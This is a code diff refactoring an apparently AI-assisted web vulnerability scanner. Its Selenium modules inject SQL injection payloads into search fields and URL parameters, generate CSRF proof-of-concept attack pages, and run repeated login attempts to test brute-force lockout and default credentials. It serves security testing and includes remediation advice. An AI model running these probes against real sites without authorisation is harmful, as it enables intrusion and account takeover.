                                 'test_details': test_log
                             }
                             vulnerabilities.append(vuln)
-                            self.main_tester.vulnerabilities_found += 1
+                            self.main_tester.count_vulnerability()
                             
                             print(f"        🚨 CRITICAL: Authentication Bypass!")
                         else:
@@ -1173,10 +2624,9 @@ class AdvancedSQLInjectionTester:
         
         try:
             self.driver.get(url)
-            time.sleep(2)
+            self.main_tester.wait_for_page_ready()
             
-            search_inputs = self.driver.find_elements(By.CSS_SELECTOR, 
-                'input[name*="search"], input[name*="query"], input[name*="q"], input[type="search"]')
+            search_inputs = self.driver.find_elements(By.CSS_SELECTOR, _SQLI_SEARCH_SELECTOR)
             
             if not search_inputs:
                 print("    ℹ️  No search forms found")
@@ -1192,12 +2642,19 @@ class AdvancedSQLInjectionTester:
                     {'type': 'search_input', 'name': search_name}, 
                     "SQL_INJECTION"
                 )
-                all_scenarios = ai_scenarios + [
-                    {"payload": p, "scenario_id": f"SQLI_SEARCH_{idx}_{i:03d}", "type": "SQL_INJECTION"}
-                    for i, p in enumerate(self.static_payloads[:5], 1)
-                ]
+                all_scenarios = self.main_tester.dedupe_scenarios(
+                    ai_scenarios + list(static_scenarios(f"SQLI_SEARCH_{idx}", "SQL_INJECTION", self.static_payloads[:5])))
                 
-                for scenario in all_scenarios:
+                pool = self.main_tester.driver_pool
+                with ThreadPoolExecutor(max_workers=pool.size) as executor:
+                    futures = [
+                        executor.submit(self._probe, self._search_for(url, idx, scenario.get('payload')),
+                                        scenario.get('payload'),
+                                        scenario.get('scenario_id', 'UNKNOWN'), f"SQLi in search {idx}")
+                        for scenario in all_scenarios
+                    ]
+                
+                for scenario, future in zip(all_scenarios, futures):
                     payload = scenario.get('payload')
                     scenario_id = scenario.get('scenario_id', 'UNKNOWN')
                     
@@ -1213,39 +2670,27 @@ class AdvancedSQLInjectionTester:
                     }
                     
                     try:
-                        self.driver.get(url)
-                        time.sleep(1)
-                        
-                        search_input = self.driver.find_elements(By.CSS_SELECTOR, 
-                            'input[name*="search"], input[name*="query"], input[name*="q"], input[type="search"]')[idx-1]
-                        
                         print(f"      [{self.main_tester.test_counter + 1:04d}] Testing: {scenario_id}")
                         
-                        search_input.clear()
-                        search_input.send_keys(payload)
-                        
-                        start_time = time.time()
-                        search_input.submit()
-                        time.sleep(2)
-                        execution_time = time.time() - start_time
+                        probe = future.result()
+                        execution_time = probe['execution_time']
                         
                         test_log['execution_time'] = execution_time
-                        test_log['console_errors'] = self.main_tester.get_console_errors()
+                        test_log['console_errors'] = probe['console_errors']
                         
-                        page_source = self.driver.page_source.lower()
-                        is_vulnerable = self.check_sql_injection(payload, execution_time, page_source)
+                        page_source = probe['page_source']
+                        is_vulnerable = probe['is_vulnerable']
                         test_log['is_vulnerable'] = is_vulnerable
                         
                         if is_vulnerable:
-                            screenshot = self.main_tester.take_screenshot(scenario_id, 
-                                f"SQLi in search {idx}")
+                            screenshot = probe['screenshot']
                             test_log['screenshot'] = screenshot
                             test_log['status'] = 'VULNERABLE'
                             
                             sql_error_type = self.detect_sql_error_type(page_source)
                             test_log['sql_error_type'] = sql_error_type
                             
-                            ai_analysis = self.llm.analyze_vulnerability(test_log)
+                            ai_analysis = self.main_tester.analyze_vulnerability_async(test_log, ('SQLI_SEARCH', idx, sql_error_type))
                             test_log['ai_analysis'] = ai_analysis
                             
                             vuln = {
@@ -1269,7 +2714,7 @@ class AdvancedSQLInjectionTester:
                                 'test_details': test_log
                             }
                             vulnerabilities.append(vuln)
-                            self.main_tester.vulnerabilities_found += 1
+                            self.main_tester.count_vulnerability()
                             
                             print(f"        🚨 VULNERABLE! Type: {sql_error_type}")
                         else:
@@ -1294,12 +2739,21 @@ class AdvancedSQLInjectionTester:
         
         error_payloads = ["'", "\"", "';", "\";"]
         
-        parsed = urlparse(url)
-        params = parse_qs(parsed.query)
+        templates = url_parameter_templates(url)
         
-        if params:
-            for param_name in params.keys():
-                for i, payload in enumerate(error_payloads, 1):
+        if templates:
+            # A response identical to the untouched page was not perturbed by its payload
+            try:
+                baseline_source = self.main_tester.fetch_all([url])[0].result()[1]
+            except Exception:
+                baseline_source = None
+            
+            for param_name, template in templates.items():
+                # Only the response text matters here, so fetch over plain HTTP
+                test_urls = [fill_url_template(template, payload) for payload in error_payloads]
+                futures = self.main_tester.fetch_all(test_urls)
+                
+                for i, (payload, test_url, future) in enumerate(zip(error_payloads, test_urls, futures), 1):
                     scenario_id = f"SQLI_ERROR_{param_name}_{i:03d}"
                     
                     test_log = {
@@ -1311,45 +2765,31 @@ class AdvancedSQLInjectionTester:
                     }
                     
                     try:
-                        test_params = params.copy()
-                        test_params[param_name] = [payload]
-                        test_url = f"{parsed.scheme}://{parsed.netloc}{parsed.path}?{urlencode(test_params, doseq=True)}"
-                        
                         test_log['test_url'] = test_url
                         
                         print(f"      [{self.main_tester.test_counter + 1:04d}] Testing error-based: {param_name}")
                         
-                        start_time = time.time()
-                        self.driver.get(test_url)
-                        execution_time = time.time() - start_time
-                        time.sleep(1)
+                        execution_time, page_source = future.result()
                         
                         test_log['execution_time'] = execution_time
-                        test_log['console_errors'] = self.main_tester.get_console_errors()
+                        test_log['console_errors'] = []
                         
-                        page_source = self.driver.page_source.lower()
-                        
-                        # Check for SQL error messages
-                        sql_errors = [
-                            'sql syntax', 'mysql', 'postgresql', 'ora-', 'sqlite',
-                            'syntax error', 'unclosed quotation', 'quoted string',
-                            'microsoft ole db', 'odbc', 'jdbc', 'sqlstate',
-                            'you have an error in your sql', 'warning: mysql'
-                        ]
+                        matches_baseline = page_source == baseline_source
+                        test_log['matches_baseline'] = matches_baseline
                         
-                        found_errors = [err for err in sql_errors if err in page_source]
-                        is_vulnerable = len(found_errors) > 0
+                        is_vulnerable = not matches_baseline and _SQL_ERROR_RE.search(page_source) is not None
+                        found_errors = [err for err, err_re in zip(_SQL_ERROR_SIGNATURES, _SQL_ERROR_SIGNATURE_RES)
+                                        if err_re.search(page_source)] if is_vulnerable else []
                         
                         test_log['is_vulnerable'] = is_vulnerable
                         test_log['found_sql_errors'] = found_errors
                         
                         if is_vulnerable:
-                            screenshot = self.main_tester.take_screenshot(scenario_id, 
-                                f"SQL error in {param_name}")
-                            test_log['screenshot'] = screenshot
+                            # Screenshot and console output are filled in once the URL is replayed in a browser
+                            test_log['screenshot'] = None
                             test_log['status'] = 'VULNERABLE'
                             
-                            ai_analysis = self.llm.analyze_vulnerability(test_log)
+                            ai_analysis = self.main_tester.analyze_vulnerability_async(test_log, ('SQLI_ERROR', param_name, tuple(found_errors)))
                             test_log['ai_analysis'] = ai_analysis
                             
                             vuln = {
@@ -1365,15 +2805,17 @@ class AdvancedSQLInjectionTester:
                                 'sql_errors_found': found_errors,
                                 'description': 'SQL error messages exposed, indicating SQL Injection',
                                 'proof_of_concept': test_url,
-                                'screenshot': screenshot,
-                                'console_errors': test_log['console_errors'],
+                                'screenshot': None,
+                                'console_errors': [],
                                 'ai_analysis': ai_analysis,
                                 'impact': 'Database structure disclosure, data extraction through error messages',
                                 'remediation': 'Disable error messages in production, use parameterized queries, implement proper error handling',
                                 'test_details': test_log
                             }
                             vulnerabilities.append(vuln)
-                            self.main_tester.vulnerabilities_found += 1
+                            self.main_tester.count_vulnerability()
+                            self.main_tester.capture_in_browser_async(test_url, scenario_id, f"SQL error in {param_name}",
+                                                                      test_log, vuln)
                             
                             print(f"        🚨 SQL ERROR DETECTED! Errors: {len(found_errors)}")
                         else:
@@ -1389,42 +2831,110 @@ class AdvancedSQLInjectionTester:
         
         return vulnerabilities
     
+    def _probe(self, navigate, payload: str, scenario_id: str, description: str) -> Dict:
+        """Run a navigation on a pooled driver and collect what the SQLi checks need"""
+        with self.main_tester.driver_pool.driver() as driver:
+            execution_time = navigate(driver)
+            console_errors = self.main_tester.get_console_errors(driver)
+            
+            # A time-based hit is already conclusive, so skip serializing the DOM
+            if is_time_based_hit(payload, execution_time):
+                page_source = ''
+                is_vulnerable = True
+            else:
+                page_source = self.main_tester.get_page_source_lower(driver)
+                is_vulnerable = self.check_sql_injection(payload, execution_time, page_source)
+            
+            return {
+                'execution_time': execution_time,
+                'console_errors': console_errors,
+                'page_source': page_source,
+                'is_vulnerable': is_vulnerable,
+                'screenshot': self.main_tester.take_screenshot(scenario_id, description, driver) if is_vulnerable else None
+            }
+    
+    def _navigate_to(self, test_url: str):
+        """Navigation that loads a test URL and returns the server's response time"""
+        def navigate(driver):
+            start_time = time.perf_counter_ns()
+            driver.get(test_url)
+            load_time = elapsed_seconds(start_time)
+            # Server time leaves out DNS, rendering and script time that can fake a delay
+            timing = self.main_tester.get_navigation_timing(driver)
+            self.main_tester.wait_for_page_ready(driver=driver)
+            return timing[1] if timing else load_time
+        return navigate
+    
+    def _search_for(self, url: str, idx: int, payload: str):
+        """Navigation that submits a payload through the idx-th search input"""
+        def navigate(driver):
+            # A pooled driver still on the page from a search that didn't navigate can be reused
+            if driver.current_url != url:
+                driver.get(url)
+                self.main_tester.wait_for_page_ready(driver=driver)
+            
+            key = (id(driver), url, idx)
+            
+            def locate():
+                self._search_inputs[key] = driver.find_elements(By.CSS_SELECTOR, _SQLI_SEARCH_SELECTOR)[idx-1]
+                return self._search_inputs[key]
+            
+            search_input = self._search_inputs.get(key) or locate()
+            try:
+                driver.execute_script(_SET_VALUES_JS, [search_input], [payload])
+            except StaleElementReferenceException:
+                search_input = locate()
+                driver.execute_script(_SET_VALUES_JS, [search_input], [payload])
+            
+            old_url = driver.current_url
+            before = self.main_tester.get_navigation_timing(driver)
+            start_time = time.perf_counter_ns()
+            search_input.submit()
+            self.main_tester.wait_after_submit(old_url, submit_wait_timeout(payload), driver)
+            load_time = elapsed_seconds(start_time)
+            
+            # Only a new document's timing entry describes the submission
+            after = self.main_tester.get_navigation_timing(driver)
+            if after and (not before or after[0] != before[0]):
+                return after[1]
+            return load_time
+        return navigate
+    
+    def _reset_or_reload_form(self, url: str, idx: int, form):
+        """Reset the idx-th form in place when still on url, otherwise reload and locate it again"""
+        if self.driver.current_url == url:
+            try:
+                self.driver.execute_script("HTMLFormElement.prototype.reset.call(arguments[0])", form)
+                return form
+            except StaleElementReferenceException:
+                pass
+        
+        self.driver.get(url)
+        self.main_tester.wait_for_page_ready()
+        return self.driver.find_elements(By.TAG_NAME, 'form')[idx - 1]
+    
     def check_sql_injection(self, payload: str, load_time: float, page_source: str) -> bool:
         """Check for SQL Injection indicators"""
         # Check for SQL error messages
-        sql_errors = [
-            'sql syntax', 'mysql', 'postgresql', 'ora-', 'sqlite',
-            'syntax error', 'unclosed quotation', 'quoted string',
-            'you have an error in your sql', 'warning: mysql',
-            'microsoft ole db', 'odbc', 'jdbc', 'sqlstate'
-        ]
-        
-        if any(error in page_source for error in sql_errors):
+        if _SQL_ERROR_RE.search(page_source):
             return True
         
         # Check for time-based SQL Injection
-        if 'sleep' in payload.lower() and load_time > 4:
-            return True
-        
-        if 'waitfor' in payload.lower() and load_time > 4:
-            return True
-        
-        return False
+        return is_time_based_hit(payload, load_time)
     
     def detect_sql_error_type(self, page_source: str) -> str:
         """Detect the type of SQL error"""
-        if 'mysql' in page_source:
-            return 'MySQL'
-        elif 'postgresql' in page_source or 'postgres' in page_source:
-            return 'PostgreSQL'
-        elif 'oracle' in page_source or 'ora-' in page_source:
-            return 'Oracle'
-        elif 'microsoft' in page_source or 'sql server' in page_source:
-            return 'MS SQL Server'
-        elif 'sqlite' in page_source:
-            return 'SQLite'
-        else:
-            return 'Unknown Database'
+        # Group numbers follow _SQL_DB_TYPES, so the lowest one found wins;
+        # the scan stops as soon as the top-priority family shows up
+        best = None
+        for match in _SQL_DB_RE.finditer(page_source):
+            if best is None or match.lastindex < best:
+                best = match.lastindex
+                if best == 1:
+                    break
+        if best is not None:
+            return _SQL_DB_TYPES[best - 1]
+        return 'Unknown Database'
 
 
 class AdvancedCSRFTester:
@@ -1451,9 +2961,9 @@ class AdvancedCSRFTester:
         
         try:
             self.driver.get(url)
-            time.sleep(2)
+            self.main_tester.wait_for_page_ready()
             
-            forms = self.driver.find_elements(By.TAG_NAME, 'form')
+            forms = self.main_tester.get_forms_metadata(self.csrf_indicators)
             
             if not forms:
                 print("  ℹ️  No forms found")
@@ -1464,10 +2974,10 @@ class AdvancedCSRFTester:
             for idx, form in enumerate(forms, 1):
                 print(f"\n  📍 Testing form #{idx}")
                 
-                form_action = form.get_attribute('action') or url
-                form_method = (form.get_attribute('method') or 'GET').upper()
-                form_xpath = self.main_tester.get_element_xpath(form)
-                form_id = form.get_attribute('id') or f'form_{idx}'
+                form_action = form['action'] or url
+                form_method = (form['method'] or 'GET').upper()
+                form_xpath = form['xpath']
+                form_id = form['id'] or f'form_{idx}'
                 
                 scenario_id = f"CSRF_FORM_{idx:03d}"
                 
@@ -1508,26 +3018,16 @@ class AdvancedCSRFTester:
                     poc_html = self.generate_csrf_poc_detailed(form, url, idx)
                     test_log['proof_of_concept_html'] = poc_html
                     
-                    # Save PoC to file
+                    # Save PoC to file off the scan thread
                     poc_filename = f"csrf_poc_{scenario_id}.html"
-                    with open(poc_filename, 'w') as f:
-                        f.write(poc_html)
+                    self.main_tester.write_file_async(poc_filename, poc_html.encode('utf-8'))
                     test_log['poc_file'] = poc_filename
                     
-                    ai_analysis = self.llm.analyze_vulnerability(test_log)
+                    ai_analysis = self.main_tester.analyze_vulnerability_async(test_log, ('CSRF', form_action, form_method, has_csrf_token))
                     test_log['ai_analysis'] = ai_analysis
                     
-                    # Get all form inputs for detailed reporting
-                    all_inputs = form.find_elements(By.TAG_NAME, 'input')
-                    input_details = []
-                    for inp in all_inputs:
-                        input_details.append({
-                            'type': inp.get_attribute('type'),
-                            'name': inp.get_attribute('name'),
-                            'id': inp.get_attribute('id'),
-                            'value': inp.get_attribute('value'),
-                            'xpath': self.main_tester.get_element_xpath(inp)
-                        })
+                    # All form inputs for detailed reporting
+                    input_details = form['inputs']
                     test_log['form_inputs'] = input_details
                     
                     vuln = {
@@ -1552,7 +3052,7 @@ class AdvancedCSRFTester:
                         'test_details': test_log
                     }
                     vulnerabilities.append(vuln)
-                    self.main_tester.vulnerabilities_found += 1
+                    self.main_tester.count_vulnerability()
                     
                     print(f"    🚨 VULNERABLE: No CSRF token!")
                     print(f"    📄 PoC saved: {poc_filename}")
@@ -1576,50 +3076,47 @@ class AdvancedCSRFTester:
         self.results = vulnerabilities
         return vulnerabilities
     
-    def check_csrf_token_detailed(self, form) -> tuple:
-        """Detailed CSRF token check"""
+    def check_csrf_token_detailed(self, form: Dict) -> tuple:
+        """Detailed CSRF token check, from the token match found by the page's form scan"""
         try:
-            hidden_inputs = form.find_elements(By.CSS_SELECTOR, 'input[type="hidden"]')
+            token = form['token']
             
-            checked_fields = []
+            # Hidden fields up to and including the token, as they were checked in order
+            scanned = form['inputs'][:token['index'] + 1] if token else form['inputs']
+            checked_fields = [
+                {
+                    'name': inp['name'] or '',
+                    'value_length': len(inp['value'] or ''),
+                    'xpath': inp['xpath']
+                }
+                for inp in scanned if inp['type'] == 'hidden'
+            ]
             
-            for inp in hidden_inputs:
-                name = inp.get_attribute('name') or ''
-                value = inp.get_attribute('value') or ''
-                name_lower = name.lower()
-                
-                checked_fields.append({
-                    'name': name,
-                    'value_length': len(value),
-                    'xpath': self.main_tester.get_element_xpath(inp)
-                })
-                
-                # Check if any CSRF indicator is in the name
-                for indicator in self.csrf_indicators:
-                    if indicator in name_lower:
-                        return True, {
-                            'found': True,
-                            'token_name': name,
-                            'token_value_length': len(value),
-                            'token_xpath': self.main_tester.get_element_xpath(inp),
-                            'indicator_matched': indicator,
-                            'checked_fields': checked_fields
-                        }
+            if token:
+                inp = form['inputs'][token['index']]
+                return True, {
+                    'found': True,
+                    'token_name': inp['name'] or '',
+                    'token_value_length': len(inp['value'] or ''),
+                    'token_xpath': inp['xpath'],
+                    'indicator_matched': token['indicator'],
+                    'checked_fields': checked_fields
+                }
             
             return False, {
                 'found': False,
                 'checked_fields': checked_fields,
-                'total_hidden_fields': len(hidden_inputs)
+                'total_hidden_fields': len(checked_fields)
             }
         
         except Exception as e:
             return False, {'error': str(e)}
     
-    def generate_csrf_poc_detailed(self, form, url: str, form_index: int) -> str:
+    def generate_csrf_poc_detailed(self, form: Dict, url: str, form_index: int) -> str:
         """Generate detailed CSRF proof-of-concept HTML"""
         try:
-            action = form.get_attribute('action') or url
-            method = form.get_attribute('method') or 'POST'
+            action = form['action'] or url
+            method = form['method'] or 'GET'
             
             if not action.startswith('http'):
                 parsed_url = urlparse(url)
@@ -1628,116 +3125,28 @@ class AdvancedCSRFTester:
                 else:
                     action = urljoin(url, action)
             
-            inputs = form.find_elements(By.TAG_NAME, 'input')
+            inputs = form['inputs']
             
-            poc = f'''<!DOCTYPE html>
-<html lang="en">
-<head>
-    <meta charset="UTF-8">
-    <title>CSRF Proof of Concept - Form #{form_index}</title>
-    <style>
-        body {{
-            font-family: Arial, sans-serif;
-            max-width: 800px;
-            margin: 50px auto;
-            padding: 20px;
-            background: #f5f5f5;
-        }}
-        .warning {{
-            background: #fff3cd;
-            border: 2px solid #ffc107;
-            padding: 20px;
-            margin-bottom: 20px;
-            border-radius: 5px;
-        }}
-        .form-container {{
-            background: white;
-            padding: 20px;
-            border-radius: 5px;
-            box-shadow: 0 2px 10px rgba(0,0,0,0.1);
-        }}
-        input, button {{
-            margin: 10px 0;
-            padding: 8px;
-            width: 100%;
-            box-sizing: border-box;
-        }}
-        button {{
-            background: #dc3545;
-            color: white;
-            border: none;
-            cursor: pointer;
-            font-size: 16px;
-        }}
-        button:hover {{
-            background: #c82333;
-        }}
-        .info {{
-            background: #d1ecf1;
-            border: 2px solid #0c5460;
-            padding: 15px;
-            margin-top: 20px;
-            border-radius: 5px;
-        }}
-    </style>
-</head>
-<body>
-    <div class="warning">
-        <h2>⚠️  CSRF Vulnerability Proof of Concept</h2>
-        <p><strong>Target:</strong> {url}</p>
-        <p><strong>Form:</strong> #{form_index}</p>
-        <p><strong>Action:</strong> {action}</p>
-        <p><strong>Method:</strong> {method}</p>
-        <p><strong>Vulnerability:</strong> This form lacks CSRF protection</p>
-    </div>
-    
-    <div class="form-container">
-        <h3>Malicious Form (Identical to Target)</h3>
-        <form action="{action}" method="{method}" id="csrf_form">
-'''
+            # Page-controlled values are escaped so quotes or markup can't break the PoC
+            url = html.escape(url)
+            action = html.escape(action)
+            method = html.escape(method)
+            
+            parts = [_CSRF_POC_HEAD.substitute(url=url, action=action, method=method, form_index=form_index)]
             
             for inp in inputs:
-                input_type = inp.get_attribute('type') or 'text'
-                input_name = inp.get_attribute('name') or ''
-                input_value = inp.get_attribute('value') or ''
+                input_type = html.escape(inp['type'] or 'text')
+                input_name = html.escape(inp['name'] or '')
+                input_value = html.escape(inp['value'] or '')
                 
                 if input_type == 'submit':
                     continue
                 
-                poc += f'            <input type="{input_type}" name="{input_name}" value="{input_value}" placeholder="{input_name}" />\n'
+                parts.append(f'            <input type="{input_type}" name="{input_name}" value="{input_value}" placeholder="{input_name}" />\n')
             
-            poc += '''            <button type="submit">Submit (Demonstrates CSRF Attack)</button>
-        </form>
-    </div>
-    
-    <div class="info">
-        <h3>How This Attack Works:</h3>
-        <ol>
-            <li>Attacker hosts this HTML page on their server</li>
-            <li>Victim (who is logged into target site) visits attacker's page</li>
-            <li>Form auto-submits OR victim clicks submit button</li>
-            <li>Request is sent to target site with victim's cookies</li>
-            <li>Target site processes request as if victim initiated it</li>
-            <li>Attacker successfully performs action on victim's behalf</li>
-        </ol>
-        
-        <h3>Remediation:</h3>
-        <ul>
-            <li>Add CSRF token to all POST/PUT/DELETE forms</li>
-            <li>Verify token on server side before processing request</li>
-            <li>Use SameSite cookie attribute</li>
-            <li>Implement additional checks (Referer header, custom headers)</li>
-        </ul>
-    </div>
-    
-    <script>
-        // Auto-submit for demonstration (comment out in practice)
-        // document.getElementById('csrf_form').submit();
-    </script>
-</body>
-</html>'''
+            parts.append(_CSRF_POC_TAIL)
             
-            return poc
+            return ''.join(parts)
         
         except Exception as e:
             return f"<!-- Error generating PoC: {e} -->"
@@ -1760,26 +3169,39 @@ class AdvancedAuthenticationTester:
         
         vulnerabilities = []
         
+        phases = [
+            ("Testing password policy...", self.test_password_policy_advanced),
+            ("Testing brute force protection...", self.test_brute_force_protection_advanced),
+            ("Testing session management...", self.test_session_management_advanced),
+            ("Testing for default credentials...", self.test_default_credentials_advanced)
+        ]
+        
+        # Each group runs on its own pooled browser. Brute force and default credentials both
+        # submit the login form, so brute force waits until default credentials is done rather
+        # than tripping the lockout that test is probing
+        groups = [
+            [phases[0]],
+            [phases[2]],
+            [phases[3], phases[1]]
+        ]
+        
+        def run_group(group):
+            results = {}
+            with self.main_tester.driver_pool.driver() as driver:
+                for message, phase in group:
+                    print(f"\n  📍 {message}")
+                    results[message] = phase(url, driver)
+            return results
+        
         try:
-            # 1. Test password policy
-            print("\n  📍 Testing password policy...")
-            password_vulns = self.test_password_policy_advanced(url)
-            vulnerabilities.extend(password_vulns)
-            
-            # 2. Test brute force protection
-            print("\n  📍 Testing brute force protection...")
-            bruteforce_vulns = self.test_brute_force_protection_advanced(url)
-            vulnerabilities.extend(bruteforce_vulns)
-            
-            # 3. Test session management
-            print("\n  📍 Testing session management...")
-            session_vulns = self.test_session_management_advanced(url)
-            vulnerabilities.extend(session_vulns)
-            
-            # 4. Test default credentials
-            print("\n  📍 Testing for default credentials...")
-            default_vulns = self.test_default_credentials_advanced(url)
-            vulnerabilities.extend(default_vulns)
+            with ThreadPoolExecutor(max_workers=len(groups)) as executor:
+                results = {}
+                for group_results in executor.map(run_group, groups):
+                    results.update(group_results)
+            
+            # Collected in phase order so the report layout is unchanged
+            for message, phase in phases:
+                vulnerabilities.extend(results[message])
             
         except Exception as e:
             print(f"  ❌ Error during authentication testing: {e}")
@@ -1792,15 +3214,16 @@ class AdvancedAuthenticationTester:
         self.results = vulnerabilities
         return vulnerabilities
     
-    def test_password_policy_advanced(self, url: str) -> List[Dict]:
+    def test_password_policy_advanced(self, url: str, driver=None) -> List[Dict]:
         """Advanced password policy testing"""
+        driver = driver or self.driver
         vulnerabilities = []
         
         try:
-            self.driver.get(url)
-            time.sleep(2)
+            driver.get(url)
+            self.main_tester.wait_for_page_ready(driver=driver)
             
-            password_fields = self.driver.find_elements(By.CSS_SELECTOR, 'input[type="password"]')
+            password_fields = driver.find_elements(By.CSS_SELECTOR, 'input[type="password"]')
             
             if not password_fields:
                 print("    ℹ️  No password fields found")
@@ -1817,12 +3240,13 @@ class AdvancedAuthenticationTester:
                 ('qwerty', 'Keyboard pattern')
             ]
             
-            for idx, password_field in enumerate(password_fields, 1):
-                password_xpath = self.main_tester.get_element_xpath(password_field)
+            password_xpaths = self.main_tester.get_element_xpaths(password_fields, driver)
+            
+            for idx, (password_field, password_xpath) in enumerate(zip(password_fields, password_xpaths), 1):
                 password_name = password_field.get_attribute('name')
                 
-                for weak_pass, description in weak_passwords:
-                    scenario_id = f"AUTH_WEAK_PASS_{idx}_{weak_passwords.index((weak_pass, description))+1:03d}"
+                for pw_idx, (weak_pass, description) in enumerate(weak_passwords, 1):
+                    scenario_id = f"AUTH_WEAK_PASS_{idx}_{pw_idx:03d}"
                     
                     test_log = {
                         'test_type': 'AUTH_WEAK_PASSWORD',
@@ -1838,34 +3262,28 @@ class AdvancedAuthenticationTester:
                     try:
                         print(f"      [{self.main_tester.test_counter + 1:04d}] Testing weak password: {weak_pass}")
                         
-                        password_field = self.driver.find_elements(By.CSS_SELECTOR, 'input[type="password"]')[idx-1]
-                        
-                        password_field.clear()
-                        password_field.send_keys(weak_pass)
-                        time.sleep(0.5)
-                        
-                        page_source = self.driver.page_source.lower()
-                        
-                        # Check for password strength validation
-                        strength_indicators = [
-                            'weak', 'strong', 'minimum', 'length', 'character',
-                            'uppercase', 'lowercase', 'number', 'special', 'digit'
-                        ]
+                        # Nothing is submitted, so the field is retyped in place rather than reloaded
+                        driver.execute_script(_SET_VALUES_JS, [password_field], [weak_pass])
                         
-                        has_validation = any(indicator in page_source for indicator in strength_indicators)
-                        found_indicators = [ind for ind in strength_indicators if ind in page_source]
+                        # Check for password strength validation, giving the page up to half a second to show it
+                        try:
+                            strength_found = WebDriverWait(driver, 0.5, poll_frequency=0.1).until(
+                                lambda d: self.main_tester.find_page_indicators(_PASSWORD_STRENGTH_INDICATORS, d))
+                        except TimeoutException:
+                            strength_found = []
+                        has_validation = bool(strength_found)
                         
                         test_log['has_password_validation'] = has_validation
-                        test_log['found_indicators'] = found_indicators
+                        test_log['found_indicators'] = strength_found
                         test_log['is_vulnerable'] = not has_validation
                         
                         if not has_validation:
                             screenshot = self.main_tester.take_screenshot(scenario_id, 
-                                f"Weak password accepted: {weak_pass}")
+                                f"Weak password accepted: {weak_pass}", driver)
                             test_log['screenshot'] = screenshot
                             test_log['status'] = 'VULNERABLE'
                             
-                            ai_analysis = self.llm.analyze_vulnerability(test_log)
+                            ai_analysis = self.main_tester.analyze_vulnerability_async(test_log)
                             test_log['ai_analysis'] = ai_analysis
                             
                             vuln = {
@@ -1893,16 +3311,13 @@ class AdvancedAuthenticationTester:
                                 'test_details': test_log
                             }
                             vulnerabilities.append(vuln)
-                            self.main_tester.vulnerabilities_found += 1
+                            self.main_tester.count_vulnerability()
                             
                             print(f"        🚨 VULNERABLE: Weak password accepted!")
                             break  # Found vulnerability, no need to test more weak passwords for this field
                         else:
                             test_log['status'] = 'SAFE'
                             print(f"        ✅ Validation present")
-                        
-                        self.driver.get(url)
-                        time.sleep(1)
                     
                     except Exception as e:
                         test_log['status'] = 'ERROR'
@@ -1916,25 +3331,22 @@ class AdvancedAuthenticationTester:
         
         return vulnerabilities
     
-    def test_brute_force_protection_advanced(self, url: str) -> List[Dict]:
+    def test_brute_force_protection_advanced(self, url: str, driver=None) -> List[Dict]:
         """Advanced brute force protection testing"""
+        driver = driver or self.driver
         vulnerabilities = []
         
         try:
-            self.driver.get(url)
-            time.sleep(2)
+            driver.get(url)
             
             try:
-                username_field = self.driver.find_element(By.CSS_SELECTOR, 
-                    'input[name*="user"], input[name*="email"], input[type="email"]')
-                password_field = self.driver.find_element(By.CSS_SELECTOR, 
-                    'input[type="password"]')
+                username_field, password_field = self.main_tester.find_login_fields(driver=driver)
             except:
                 print("    ℹ️  No login form found")
                 return vulnerabilities
             
-            username_xpath = self.main_tester.get_element_xpath(username_field)
-            password_xpath = self.main_tester.get_element_xpath(password_field)
+            username_xpath, password_xpath = self.main_tester.get_element_xpaths(
+                [username_field, password_field], driver)
             
             scenario_id = "AUTH_BRUTE_FORCE_001"
             
@@ -1953,64 +3365,48 @@ class AdvancedAuthenticationTester:
             blocked = False
             block_detected_at = None
             
-            for i in range(1, 7):  # Try 6 attempts
+            credentials = [(f'testuser{i}@test.com', f'wrongpassword{i}') for i in range(1, 7)]  # Try 6 attempts
+            
+            # All attempts go out from the loaded page in one script, so the form is never reloaded
+            try:
+                results = driver.execute_async_script(_LOGIN_ATTEMPTS_JS, username_field,
+                    password_field, credentials, list(_LOCKOUT_INDICATORS))
+            except Exception as e:
+                print(f"    ⚠️  Could not replay login form: {e}")
+                results = []
+            
+            for i, result in enumerate(results, 1):
                 attempt_log = {
                     'attempt_number': i,
-                    'username': f'testuser{i}@test.com',
-                    'password': f'wrongpassword{i}'
+                    'username': credentials[i - 1][0],
+                    'password': credentials[i - 1][1]
                 }
                 
-                try:
-                    self.driver.get(url)
-                    time.sleep(0.5)
-                    
-                    username_field = self.driver.find_element(By.CSS_SELECTOR, 
-                        'input[name*="user"], input[name*="email"], input[type="email"]')
-                    password_field = self.driver.find_element(By.CSS_SELECTOR, 
-                        'input[type="password"]')
-                    
-                    username_field.clear()
-                    username_field.send_keys(attempt_log['username'])
-                    password_field.clear()
-                    password_field.send_keys(attempt_log['password'])
-                    
-                    start_time = time.time()
-                    password_field.submit()
-                    time.sleep(1)
-                    execution_time = time.time() - start_time
-                    
-                    attempt_log['execution_time'] = execution_time
-                    failed_attempts += 1
-                    
-                    page_source = self.driver.page_source.lower()
-                    
-                    # Check if blocked
-                    block_indicators = [
-                        'locked', 'blocked', 'too many', 'rate limit',
-                        'captcha', 'suspicious', 'temporarily disabled',
-                        'wait', 'try again later'
-                    ]
-                    
-                    found_blocks = [ind for ind in block_indicators if ind in page_source]
-                    
-                    if found_blocks:
-                        blocked = True
-                        block_detected_at = i
-                        attempt_log['blocked'] = True
-                        attempt_log['block_indicators'] = found_blocks
-                        print(f"      ✅ Account locked after {failed_attempts} attempts")
-                        print(f"         Indicators: {', '.join(found_blocks)}")
-                        break
-                    else:
-                        attempt_log['blocked'] = False
-                        print(f"      [{i}/6] Attempt {i} - No blocking detected")
-                    
-                    test_log['attempts'].append(attempt_log)
-                
-                except Exception as e:
-                    attempt_log['error'] = str(e)
+                if 'error' in result:
+                    attempt_log['error'] = result['error']
                     test_log['attempts'].append(attempt_log)
                     continue
+                
+                attempt_log['execution_time'] = result['ms'] / 1000
+                attempt_log['status_code'] = result['status']
+                failed_attempts += 1
+                
+                # Check if blocked
+                found_blocks = result['matches']
+                
+                if found_blocks:
+                    blocked = True
+                    block_detected_at = i
+                    attempt_log['blocked'] = True
+                    attempt_log['block_indicators'] = found_blocks
+                    print(f"      ✅ Account locked after {failed_attempts} attempts")
+                    print(f"         Indicators: {', '.join(found_blocks)}")
+                    break
+                else:
+                    attempt_log['blocked'] = False
+                    print(f"      [{i}/6] Attempt {i} - No blocking detected")
+                
+                test_log['attempts'].append(attempt_log)
             
             test_log['total_attempts'] = failed_attempts
             test_log['blocked'] = blocked
@@ -2019,11 +3415,11 @@ class AdvancedAuthenticationTester:
             
             if test_log['is_vulnerable']:
                 screenshot = self.main_tester.take_screenshot(scenario_id, 
-                    "No brute force protection")
+                    "No brute force protection", driver)
